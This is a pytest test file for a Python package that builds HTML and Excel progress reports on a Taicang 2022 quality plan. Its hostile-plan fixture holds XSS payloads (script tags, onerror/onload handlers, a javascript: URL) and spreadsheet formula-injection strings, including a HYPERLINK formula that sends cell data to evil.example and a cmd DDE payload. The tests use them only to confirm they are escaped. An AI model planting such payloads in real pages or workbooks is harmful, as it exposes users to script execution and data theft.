"""The report to hand over: HTML page and Excel workbook, end to end, and hostile plans."""

from __future__ import annotations

import html.parser
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import policytargets as pt
from policytargets._cli import main

EXAMPLES = Path(__file__).parents[1] / "examples" / "data"
OBSERVATIONS = EXAMPLES / "taicang2022_observations.csv"
MILESTONES = EXAMPLES / "taicang2022_milestones.csv"
PLAN = pt.taicang2022.plan

_VOID = {"meta", "br", "hr", "img", "input", "link", "rect", "col", "wbr", "source"}


class _Page(html.parser.HTMLParser):
    """Parses a page, checking that every element closes, and records what it meets."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []
        self.errors: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)
        if tag not in _VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag in _VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    assert parser.errors == []
    assert parser.stack == []
    return parser


@pytest.fixture(scope="module")
def taicang_report() -> pt.Report:
    return pt.report(PLAN, OBSERVATIONS, milestones=MILESTONES)


def _hostile_plan() -> pt.Plan:
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    indicator = pt.Indicator(
        id="rate",
        name=pt.Label(zh=evil, en=formula),
        kind="rate",
        unit="%",
    )
    target = pt.Target(
        id="t1",
        indicator=indicator,
        condition=pt.AtLeast(value=90),
        period="2022",
        source=pt.SourceClause(section="+1+1", text=f"@SUM(1,2) {evil}"),
        responsibilities=(pt.Responsibility(owner="o1", role="lead"),),
    )
    milestone = pt.Milestone(
        id="m1",
        name=pt.Label(zh="-2+3", en='"><svg onload=alert(1)>'),
        period="2022",
        responsibilities=(pt.Responsibility(owner="o1", role="lead"),),
    )
    goal = pt.Goal(
        id="g1", title=pt.Label(zh=evil, en=formula), targets=(target,), milestones=(milestone,)
    )
    return pt.Plan(
        id="evil",
        title=pt.Label(zh=evil, en=formula),
        period="2022",
        url="javascript:alert(1)",
        document_number="=1+1",
        goals=(goal,),
        owners=(pt.Owner(id="o1", name=pt.Label(zh="@owner", en="-owner")),),
    )


def _hostile_observations() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "target_id": ["t1"],
            "period": ["2022"],
            "value": [95.0],
            "unit": ["%"],
            "source": ['<b onclick="x">=cmd|calc</b>'],
        }
    )


class TestReportTables:
    """The report's tables say what the assessments say."""

    def test_every_target_and_milestone_once(self, taicang_report: pt.Report) -> None:
        """One targets row per target, one milestones row per milestone, in plan order."""
        targets = taicang_report.targets_table()
        assert list(targets["target_id"]) == [t.id for t in PLAN.targets]
        assert list(taicang_report.milestones["milestone_id"]) == [m.id for m in PLAN.milestones]

    def test_summary_counts_match_the_assessments(self, taicang_report: pt.Report) -> None:
        """Binding plus aspirational counts are the assessments' status counts."""
        summary = taicang_report.summary_table().set_index("status")
        counts = taicang_report.assessments["status"].astype(str).value_counts()
        for status, n in counts.items():
            assert summary.loc[status, "binding"] + summary.loc[status, "aspirational"] == n
        assert summary["milestones"].sum() == len(taicang_report.milestones)

    def test_milestone_reports_are_read(self, taicang_report: pt.Report) -> None:
        """A 1 in the milestone file is done, a 0 is pending (reported not done)."""
        by_id = taicang_report.milestones.set_index("milestone_id")
        assert by_id.loc["mayors-quality-award", "status"] == "done"
        assert by_id.loc["sino-german-standardisation-centre", "status"] == "pending"
        assert by_id.loc["sino-german-standardisation-centre", "reason"] == "reported not done"

    def test_goals_and_owners_add_up(self, taicang_report: pt.Report) -> None:
        """Every target and milestone is counted once per goal; owners count what they lead."""
        goals = taicang_report.goals_table()
        n_items = len(taicang_report.assessments) + len(taicang_report.milestones)
        assert goals["total"].sum() == n_items
        assert list(goals["section"])[:2] == ["二.(一)", "二.(二)"]
        owners = taicang_report.owners_table().set_index("owner_id")
        assert owners["total"].sum() >= n_items
        # Taicang names no lead: the farm-produce pass rate counts for agriculture, not for
        # the bureau its section's note happens to name first.
        assert owners.loc["市农业农村局", "total"] == 3

    def test_margins_keep_their_units(self, taicang_report: pt.Report) -> None:
        """A rate's margin is in 百分点; a count keeps its counting word (个) in both languages."""
        zh = taicang_report.targets_table().set_index("target_id")
        assert zh.loc["manufacturing-pass-rate", "margin_text"] == "+0.32 百分点"
        assert zh.loc["manufacturing-pass-rate", "observed_text"] == "97.12%"
        en = pt.report(PLAN, OBSERVATIONS, lang="en").targets_table().set_index("target_id")
        assert en.loc["consumer-goods-pass-rate", "margin_text"] == "-0.2 percentage points"
        assert en.loc["new-suzhou-quality-awards", "observed_text"] == "9 个"

    def test_illustrative_from_the_data(self, tmp_path: Path) -> None:
        """The banner follows the data: a source or note saying illustrative, or the caller."""
        frame = pd.read_csv(OBSERVATIONS, comment="#", dtype={"period": str})
        assert pt.report(PLAN, frame).illustrative  # the source column says so
        official = frame.assign(source="statistics bureau")
        assert not pt.report(PLAN, official).illustrative
        assert pt.report(PLAN, official, illustrative=True).illustrative
        plain = tmp_path / "obs.csv"
        official.to_csv(plain, index=False)
        assert not pt.report(PLAN, plain).illustrative
        noted = tmp_path / "noted.csv"
        noted.write_text("# 示意数据\n" + plain.read_text(encoding="utf-8"), encoding="utf-8")
        assert pt.report(PLAN, noted).illustrative

    def test_list_of_dicts(self) -> None:
        """Observations as records are accepted, as pandas users pass them."""
        records = [{"target_id": "consumer-goods-pass-rate", "period": "2022", "value": 98.0,
                    "unit": "%"}]  # fmt: skip
        result = pt.report(PLAN, records)
        row = result.assessments.set_index("target_id").loc["consumer-goods-pass-rate"]
        assert row["status"] == "met"


class TestMilestoneFile:
    """``read_milestones`` reads done / not done / no report, and names bad lines."""

    def test_reads_the_example(self) -> None:
        """The example file: nine of the ten milestones reported, seven done."""
        reports = pt.read_milestones(MILESTONES, PLAN)
        assert len(reports) == 9
        assert sum(1 for v in reports.values() if v) == 7

    def test_every_bad_line_at_once(self, tmp_path: Path) -> None:
        """A bad done value and an unknown id are both reported, with 1-based line numbers."""
        path = tmp_path / "m.csv"
        path.write_text(
            "# note\nmilestone_id,done\nmayors-quality-award,maybe\nnope,1\n"
            "quality-infrastructure-one-stop-centre,\n",
            encoding="utf-8",
        )
        with pytest.raises(pt.ObservationError) as info:
            pt.read_milestones(path, PLAN)
        message = str(info.value)
        assert "2 bad milestone report(s)" in message
        assert "line 3: done 'maybe'" in message
        assert "line 4: 'nope' is not a milestone" in message

    def test_missing_column(self, tmp_path: Path) -> None:
        """A file without a done column says which columns it needs."""
        path = tmp_path / "m.csv"
        path.write_text("milestone_id,status\nx,1\n", encoding="utf-8")
        with pytest.raises(pt.ObservationError, match="missing column"):
            pt.read_milestones(path)


class TestHtml:
    """The page is well-formed, self-contained, bilingual, and escapes every plan text."""

    def test_well_formed_and_complete(self, taicang_report: pt.Report) -> None:
        """Every element closes; sections, charts with alt text, banner, quotations present."""
        page = taicang_report.to_html()
        parsed = _parse(page)
        assert page.startswith("<!DOCTYPE html>")
        assert '<meta charset="utf-8">' in page
        assert parsed.tags.count("section") == 6
        assert parsed.tags.count("svg") == 2
        labels = [v for k, v in parsed.attributes if k == "aria-label"]
        assert len(labels) == 2
        assert all(label and "达标" in label for label in labels)
        text = "".join(parsed.text)
        assert text.count("示意数据,非官方结果") == 2  # top and bottom
        for target in PLAN.targets:
            assert target.indicator.name.zh in text
        assert "制造业产品质量合格率达到96.8%以上" in text  # a source quotation
        assert "太政办〔2022〕64号" in text

    def test_self_contained(self, taicang_report: pt.Report) -> None:
        """No script, no external resource: only the plan's own http link is an anchor."""
        page = taicang_report.to_html()
        parsed = _parse(page)
        assert "script" not in parsed.tags
        for name, value in parsed.attributes:
            if name == "src":
                pytest.fail(f"external resource {value}")
            if name == "href":
                assert value == PLAN.url
        assert "default-src 'none'" in page
        assert "Noto Sans CJK SC" in page  # the fonts it asks for are named

    def test_english(self) -> None:
        """--lang en: English labels, names and owner lists joined with a comma."""
        page = pt.report(PLAN, OBSERVATIONS, lang="en").to_html()
        text = "".join(_parse(page).text)
        assert '<html lang="en">' in page
        assert "Manufactured product quality pass rate" in text
        assert "Scorecard by responsible owner" in text
        assert "ILLUSTRATIVE FIGURES" in text
        assert "、" not in "".join(
            pt.report(PLAN, OBSERVATIONS, lang="en").targets_table()["owners"]
        )

    @pytest.mark.parametrize("lang", ["zh", "en"])
    def test_hostile_plan_is_escaped(self, lang: str) -> None:
        """Script, event handlers and javascript: URLs in a plan stay text."""
        page = pt.report(_hostile_plan(), _hostile_observations(), lang=lang).to_html()
        parsed = _parse(page)
        assert "script" not in parsed.tags
        assert "img" not in parsed.tags
        assert parsed.tags.count("svg") == 2  # the report's charts only
        assert not [k for k, _ in parsed.attributes if k.startswith("on")]
        assert not [v for k, v in parsed.attributes if k == "href"]
        text = "".join(parsed.text)
        assert "javascript:alert(1)" in text  # shown, not linked
        if lang == "zh":
            assert '<script>alert("x")</script>' in text

    def test_notebook_cell_is_scoped(self, taicang_report: pt.Report) -> None:
        """In a notebook the report's style applies to the report only."""
        cell = taicang_report._repr_html_()
        _parse(cell)
        assert cell.startswith('<div class="pt-report"><style>')
        assert "body{" not in cell


class TestExcel:
    """The workbook: one sheet per table, coloured statuses, no formula from plan text."""

    def test_sheets_and_colours(self, taicang_report: pt.Report, tmp_path: Path) -> None:
        """Six sheets; the status cells are filled with the report's colours."""
        openpyxl = pytest.importorskip("openpyxl")
        path = taicang_report.write(tmp_path / "r.xlsx")
        book = openpyxl.load_workbook(path)
        assert len(book.sheetnames) == 6
        sheet = book[book.sheetnames[4]]  # targets
        assert sheet["A1"].value.startswith("示意数据")
        header = [c.value for c in sheet[2]]
        status = header.index("状态") + 1
        cell = sheet.cell(row=3, column=status)
        assert cell.value == "达标"
        assert cell.fill.fgColor.rgb.endswith("1A9850")
        assert sheet.max_row == 2 + sum(1 for _ in PLAN.targets)

    def test_formula_injection_neutralised(self, tmp_path: Path) -> None:
        """Text starting with = + - @ is written with an apostrophe, never as a formula."""
        openpyxl = pytest.importorskip("openpyxl")
        path = tmp_path / "evil.xlsx"
        pt.report(_hostile_plan(), _hostile_observations(), lang="en", out=path)
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), name
        book = openpyxl.load_workbook(path)
        texts = [
            cell.value
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
        assert "'=1+1" in texts
        assert any(t.startswith("'=HYPERLINK") for t in texts)
        assert "'-owner" in texts
        assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
        numbers = [
            cell.value
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, int | float)
        ]
        assert 5 in numbers  # a margin stays a number, its sign kept

    def test_missing_openpyxl_names_the_extra(
        self, taicang_report: pt.Report, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Without openpyxl: one error naming pip install "policytargets[excel]"."""
        monkeypatch.setitem(sys.modules, "openpyxl", None)
        with pytest.raises(pt.MissingDependencyError, match=r"policytargets\[excel\]") as info:
            taicang_report.write(tmp_path / "r.xlsx")
        assert isinstance(info.value, ModuleNotFoundError)


class TestCommand:
    """``policytargets report``: writes the file, says so on stderr, refuses bad suffixes."""

    def test_html(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """An HTML page, a one-line summary on stderr, nothing on stdout."""
        out = tmp_path / "r.html"
        code = main(["report", "taicang2022", str(OBSERVATIONS), "--milestones", str(MILESTONES),
                     "--out", str(out), "--lang", "en"])  # fmt: skip
        stdout, stderr = capsys.readouterr()
        assert (code, stdout) == (0, "")
        assert "report on taicang2022 written" in stderr
        assert "7 done" in stderr
        _parse(out.read_text(encoding="utf-8"))

    def test_bad_suffix(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """--out report.pdf is a usage error (status 2)."""
        code = main(["report", "taicang2022", str(OBSERVATIONS), "--out", str(tmp_path / "r.pdf")])
        assert code == 2
        assert ".html or .xlsx" in capsys.readouterr().err

    def test_missing_extra(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """No openpyxl: exit 1 and one line naming the extra, no traceback."""
        monkeypatch.setitem(sys.modules, "openpyxl", None)
        code = main(["report", "taicang2022", str(OBSERVATIONS), "--out", str(tmp_path / "r.xlsx")])
        err = capsys.readouterr().err
        assert code == 1
        assert err.count("\n") == 1
        assert 'pip install "policytargets[excel]"' in err

    def test_bad_milestone_file(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """A bad milestone file: exit 1, the line named on stderr."""
        bad = tmp_path / "m.csv"
        bad.write_text("milestone_id,done\nmayors-quality-award,2\n", encoding="utf-8")
        code = main(["report", "taicang2022", str(OBSERVATIONS), "--milestones", str(bad),
                     "--out", str(tmp_path / "r.html")])  # fmt: skip
        assert code == 1
        assert "line 2: done '2'" in capsys.readouterr().err


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(_chromium() is None, reason="headless Chromium is not installed")
class TestInBrowser:
    """The page renders in headless Chromium: a screenshot of the right size, not blank."""

    def test_screenshot(self, taicang_report: pt.Report, tmp_path: Path) -> None:
        """Rendered at 1200x1600: the PNG has that size and many colours (text, bars, badges)."""
        image_module = pytest.importorskip("PIL.Image")
        page = taicang_report.write(tmp_path / "r.html")
        shot = tmp_path / "shot.png"
        command = [
            str(_chromium()),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            f"--screenshot={shot}",
            "--window-size=1200,1600",
            page.as_uri(),
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        with image_module.open(shot) as image:
            assert image.size == (1200, 1600)
            colours = image.convert("RGB").getcolors(maxcolors=1 << 20)
        assert colours is not None
        assert len(colours) > 50  # not a blank page
        count, _ = max(colours)
        assert count < 0.97 * 1200 * 1600  # not one colour (white) almost everywhere
        statuses = {tuple(int(h[i : i + 2], 16) for i in (1, 3, 5)) for h in ("#1a9850",)}
        assert statuses & {c for _, c in colours}  # the "met" green is drawn


class TestMissingExtras:
    """Each optional feature names its extra when its library is missing."""

    @pytest.mark.parametrize(
        ("module", "extra", "call"),
        [
            ("matplotlib", "plot", "plot"),
            ("jinja2", "plot", "style"),
            ("openpyxl", "excel", "read_xlsx"),
        ],
    )
    def test_names_the_extra(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, module: str, extra: str, call: str
    ) -> None:
        """No bare ModuleNotFoundError: a MissingDependencyError with the pip command."""
        from policytargets import plotting

        frame = pt.evaluate(PLAN, pd.read_csv(OBSERVATIONS, comment="#", dtype={"period": str}))
        path = tmp_path / "obs.xlsx"
        pd.DataFrame({"target_id": ["x"], "value": [1.0]}).to_excel(path, index=False)
        for name in [m for m in sys.modules if m == module or m.startswith(module + ".")]:
            monkeypatch.delitem(sys.modules, name)
        monkeypatch.setitem(sys.modules, module, None)
        plotting.cjk_font.cache_clear()
        calls = {
            "plot": lambda: plotting.plot_status_summary(PLAN, frame),
            "style": lambda: plotting.style_assessments(frame),
            "read_xlsx": lambda: pt.read_observations(path),
        }
        try:
            with pytest.raises(pt.MissingDependencyError, match=rf"policytargets\[{extra}\]"):
                calls[call]()
        finally:
            plotting.cjk_font.cache_clear()


class TestCliReference:
    """The docs' command-line reference is generated from the parser and covers every command."""

    def test_every_command_has_a_section(self) -> None:
        """docs/reference/cli.md has a heading and a generated help block per command."""
        from policytargets._cli import command_help, commands

        page = (Path(__file__).parents[1] / "docs" / "reference" / "cli.md").read_text(
            encoding="utf-8"
        )
        assert commands()
        for command in commands():
            assert f"\n## {command}\n" in page
            assert f'command_help("{command}")' in page
            assert command_help(command).startswith(f"usage: policytargets {command}")
